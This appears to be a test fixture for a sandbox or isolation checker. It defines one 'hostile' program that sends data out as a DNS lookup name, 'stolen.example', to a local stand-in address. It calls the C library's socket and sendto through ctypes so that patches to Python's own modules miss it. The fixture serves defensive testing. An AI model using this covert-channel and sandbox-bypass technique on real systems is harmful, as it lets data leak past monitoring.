"""Sends data out as a name to look up, with calls of the C library that no patch of Python's modules reaches."""

from hostile import Attack, Tier

PROGRAM = """
import ctypes, struct
def f(x):
    libc = ctypes.CDLL(None)
    name = b"".join(bytes([len(part)]) + part for part in (b"stolen", b"example", b""))
    query = struct.pack(">6H", 4711, 0x0100, 1, 0, 0, 0) + name + struct.pack(">2H", 1, 1)
    address = struct.pack("=H", 2) + struct.pack(">H", @UDP@) + bytes([127, 0, 0, 1]) + bytes(8)
    libc.sendto(libc.socket(2, 2, 0), query, len(query), 0, address, len(address))
    return 2
"""

ATTACK = Attack(PROGRAM, tier=Tier.WEAK, works="touched", outcomes=("pass", "error", "failure"))
